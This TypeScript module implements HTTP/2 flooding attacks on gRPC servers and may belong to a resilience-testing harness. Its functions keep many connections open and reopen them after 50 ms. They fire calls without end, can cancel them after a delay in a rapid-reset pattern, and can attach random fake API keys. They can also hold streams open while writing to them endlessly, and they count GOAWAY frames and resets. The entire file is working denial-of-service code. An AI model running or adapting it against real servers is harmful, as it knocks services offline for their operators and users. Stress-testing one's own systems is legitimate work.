/** Peers with Node.js's own HTTP/2 client, which costs the attacker much less than a gRPC client. */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import type { IncomingHttpHeaders } from 'node:http';
import { connect, constants, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import type { CallFlood, StreamFlood, Target, Teller } from './attacks';

/** How long a peer that was cut off waits before it connects again, in milliseconds. */
const reconnectDelay = 50;

/** Makes calls for ever: a new one as soon as one has been answered. */
export function floodWithCalls(address: string, flood: CallFlood, teller: Teller): void {
  let given = 0;
  const keepCalling = async (session: ClientHttp2Session): Promise<void> => {
    while (usable(session)) {
      const stream = request(session, flood);
      const message = flood.messages[given++ % flood.messages.length] ?? new Uint8Array();
      const timer =
        flood.cancelAfter === undefined
          ? undefined
          : setTimeout(() => {
              stream.close(constants.NGHTTP2_CANCEL);
            }, flood.cancelAfter);
      stream.resume();
      stream.end(message);
      teller.count(await outcomeOf(stream));
      clearTimeout(timer);
    }
  };
  connectForEver(address, flood, teller, keepCalling);
}

/** Opens calls whose answers nobody reads, and opens new ones as soon as they are cut off. */
export function floodWithStreams(address: string, flood: StreamFlood, teller: Teller): void {
  const keepOpen = async (session: ClientHttp2Session): Promise<void> => {
    while (usable(session)) {
      const stream = request(session, flood);
      const ended = outcomeOf(stream);
      if (flood.endless) writeForEver(stream, flood.message, teller);
      else stream.end(flood.message);
      teller.count(await ended);
    }
  };
  connectForEver(address, flood, teller, keepOpen);
}

/** Writes as fast as the other side takes it. */
function writeForEver(stream: ClientHttp2Stream, message: Uint8Array, teller: Teller): void {
  const more = (): void => {
    while (!stream.destroyed && stream.writable) {
      teller.count('messages');
      if (!stream.write(message)) return;
    }
  };
  stream.on('drain', more);
  more();
}

/** Keeps a number of connections open, each with its calls, and replaces those that are cut off. */
function connectForEver(
  address: string,
  flood: CallFlood | StreamFlood,
  teller: Teller,
  call: (session: ClientHttp2Session) => Promise<void>,
): void {
  const keepConnected = async (): Promise<never> => {
    for (;;) {
      const session = connect(`http://${address}`);
      session.on('error', () => undefined);
      session.on('goaway', () => {
        teller.count('GOAWAY');
      });
      const connected = await once(session, 'connect').then(
        () => true,
        () => false,
      );
      if (connected) {
        const calls = Array.from({ length: flood.concurrent }, () => call(session));
        teller.connected();
        await Promise.all(calls);
      }
      session.destroy();
      await sleep(reconnectDelay);
    }
  };
  for (let index = 0; index < flood.connections; index++) void keepConnected();
}

function usable(session: ClientHttp2Session): boolean {
  return !session.closed && !session.destroyed;
}

function request(session: ClientHttp2Session, flood: CallFlood | StreamFlood): ClientHttp2Stream {
  const madeUp = flood.type === 'calls' && flood.madeUpKeys;
  const stream = session.request({
    ...headersOf(flood),
    ...(madeUp ? { 'x-api-key': madeUpKey() } : {}),
  });
  stream.on('error', () => undefined);
  return stream;
}

/** An API key in the right form that nobody has. */
function madeUpKey(): string {
  return `sik_${randomBytes(32).toString('base64url')}`;
}

/** The headers of a gRPC call. */
export function headersOf({
  path,
  headers,
}: Pick<Target, 'path' | 'headers'>): Readonly<Record<string, string>> {
  return {
    ':method': 'POST',
    ':scheme': 'http',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  };
}

/** How a call ended: with a status, or reset. */
function outcomeOf(stream: ClientHttp2Stream): Promise<string> {
  let status: unknown;
  const note = (headers: IncomingHttpHeaders): void => {
    status ??= headers['grpc-status'];
  };
  stream.on('response', note);
  stream.on('trailers', note);
  return new Promise((resolve) => {
    stream.on('close', () => {
      resolve(typeof status === 'string' ? `status ${status}` : `reset ${stream.rstCode}`);
    });
  });
}
